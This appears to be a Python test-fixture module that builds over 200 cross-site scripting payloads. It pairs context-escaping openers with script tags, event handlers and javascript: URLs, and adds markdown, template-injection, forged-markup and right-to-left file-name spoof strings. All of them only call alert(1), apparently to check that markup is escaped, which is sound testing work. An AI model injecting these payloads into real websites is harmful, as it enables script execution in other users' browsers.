"""What a hostile page would have a reader's browser run: over 200 strings that call `alert` where markup is let in."""

from __future__ import annotations

_OPENERS = ("", "\"'>", "</textarea>", "</title>", "</script>", "-->", "</svg>", "]]>")
"""What a string may stand in; each way out of it comes before each way to run."""
_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt >",
    "<script/x>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror='&#97;lert(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><img src=x onerror=alert(1)></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button></form>",
    "<style onload=alert(1)></style>",
)
_OTHERS = (
    "[x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "{{ 7 * 7 }}{% include 'x' %}",
    "${alert(1)}",
    "</del><ins>forged</ins>",
    "<ins>forged</ins><del>forged</del>",
    "\u202egnp.exe\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
)
PAYLOADS = (*(opener + run for run in _RUNS for opener in _OPENERS), *_OTHERS)
